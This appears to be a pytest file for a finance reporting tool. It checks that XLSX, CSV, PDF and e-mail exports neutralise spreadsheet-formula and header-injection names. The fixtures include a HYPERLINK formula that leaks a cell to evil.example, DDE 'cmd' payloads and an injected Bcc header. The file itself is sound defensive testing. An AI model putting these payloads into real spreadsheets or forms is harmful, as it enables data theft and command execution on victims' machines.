"""Exports built from hostile names contain nothing a spreadsheet executes: the pack's workbook has no formula but
its own totals, its CSV no formula-like cell, and its PDF and e-mail render (opened and read back, not inspected)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from finance_core.accounts import ChartOfAccounts
from finance_core.export_text import FORMULA_TRIGGERS, display_name, is_formula_like, spreadsheet_safe
from hypothesis import given
from hypothesis import strategies as st
from reports.pack import build_pack

from tests.report_inputs import demo_aggregates, demo_inputs

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B5,"Product revenue")'
NAMES = {
    "4100": HOSTILE,
    "4200": "+1+cmd|' /C calc'!A0",
    "5100": "-2+3+cmd|' /C calc'!A0",
    "6100": "@SUM(1+1)*cmd|' /C calc'!A0",
    "6200": "\t=1+1",
    "6300": "\r=1+1",
}
# The workbook's own formulas: totals and variances of cell references, nothing else.
OWN_FORMULA = re.compile(r"^=[A-Z]+[0-9]+([+-][A-Z]+[0-9]+)*$")


@pytest.fixture(scope="module")
def hostile_pack():
    _, chart, reference = demo_aggregates()
    accounts = {a["account_id"]: dict(a) for a in reference["accounts"]}
    for account_id, name in NAMES.items():
        accounts[account_id]["name"] = name
    entities = {e["entity_id"]: e["name"] for e in reference["entities"]}
    entities["us-east"] = "=cmd|' /C calc'!A0"
    inputs = demo_inputs(
        "2026-10",
        org_name='@Northwind\r\nBcc: everyone@example.com =HYPERLINK("x")',
        chart=ChartOfAccounts.from_documents(accounts),
        entities=entities,
        alerts=[
            {
                "severity": "critical",
                "status": "open",
                "title": '=HYPERLINK("http://evil.example")',
                "rule_type": "threshold",
                "entity_id": "us-east",
                "count": 1,
                "first_seen": datetime(2026, 10, 5, tzinfo=UTC),
                "last_seen": datetime(2026, 10, 6, tzinfo=UTC),
            }
        ],
        variance={
            "_all": {
                "vs_budget": {
                    "top": [
                        {
                            "account_id": "4100",
                            "account_name": HOSTILE,
                            "actual_minor": -12345,
                            "comparison_minor": 100,
                            "variance_minor": -12445,
                            "variance_pct": "-12.5",
                            "favourable": False,
                        }
                    ]
                }
            }
        },
    )
    return build_pack(inputs)


def test_the_workbook_has_no_formula_but_its_own_totals_and_keeps_negative_amounts_as_numbers(hostile_pack):
    from openpyxl import load_workbook
    from reports.xlsx import render_xlsx

    book = load_workbook(io.BytesIO(render_xlsx(hostile_pack)))
    formulas = texts = negatives = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OWN_FORMULA.match(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                    formulas += 1
                elif cell.data_type == "s":
                    assert not is_formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                    texts += 1
                elif cell.data_type == "n" and isinstance(cell.value, int | float) and cell.value < 0:
                    negatives += 1
    assert formulas > 100 and texts > 100 and negatives > 0
    consolidated = book["P&L Consolidated"]
    labels = {consolidated.cell(row, 2).value for row in range(1, consolidated.max_row + 1)}
    assert "'" + HOSTILE in labels
    assert book["Top variances"]["F5"].data_type == "n" and book["Top variances"]["F5"].value == -124.45


def test_the_csv_tables_have_no_formula_like_cell_and_amounts_still_parse(hostile_pack):
    from reports.tables import render_csv, table_builders

    seen_hostile = negative_amounts = 0
    for _, build in table_builders(hostile_pack).values():
        text = render_csv(build()).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not is_formula_like(cell), cell
                seen_hostile += cell == "'" + HOSTILE
                if re.fullmatch(r"-[0-9]+\.[0-9]+", cell):
                    assert Decimal(cell) < 0
                    negative_amounts += 1
    assert seen_hostile >= 2 and negative_amounts > 0


def test_the_pdf_shows_the_names_neutralised_and_the_email_header_stays_one_line(hostile_pack):
    from adapters.notification_channels.config import EmailChannel, smtp_settings
    from reports.email import pack_email
    from reports.pdf import render_pdf

    pdf = render_pdf(hostile_pack, None)
    assert pdf.startswith(b"%PDF")
    settings = smtp_settings(
        EmailChannel(type="email", recipients=("cfo@example.com",)), {"SMTP_HOST": "h"}, lambda _: ""
    )
    message = pack_email(settings, hostile_pack, pdf, None)
    assert "\n" not in message["Subject"] and "\r" not in message["Subject"]
    assert message["Bcc"] is None
    assert message["Subject"].startswith("'@Northwind")
    body = message.get_body(("plain",)).get_content()
    assert not any(line.startswith(FORMULA_TRIGGERS) for line in body.splitlines() if line)


def test_pdf_text_is_neutralised(hostile_pack):
    import shutil
    import subprocess

    from reports.pdf import render_pdf

    if shutil.which("pdftotext") is None:
        pytest.fail("pdftotext (poppler-utils) is missing: ./dev setup installs it")
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=render_pdf(hostile_pack, None), capture_output=True, check=True
    ).stdout.decode()
    # Every name that starts with a formula shows its apostrophe (a name's middle is not a cell start).
    assert "'=HYPERLINK(\"http://evil" in text
    assert not re.search(r"(^|\s)=HYPERLINK\(\"http://evil", text)


@given(st.text(max_size=40))
def test_the_export_rule_never_leaves_a_formula_like_cell_and_is_idempotent(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert not is_formula_like(safe)
    assert spreadsheet_safe(safe) == safe
    assert safe == text or safe == "'" + text
    shown = display_name(text)
    assert not is_formula_like(shown) and "\n" not in shown and "\r" not in shown


@pytest.mark.parametrize("number", ["-1234.50", "-12", "0", "-0.5", "1234.56"])
def test_plain_decimal_numbers_stay_numbers(number: str) -> None:
    assert spreadsheet_safe(number) == number
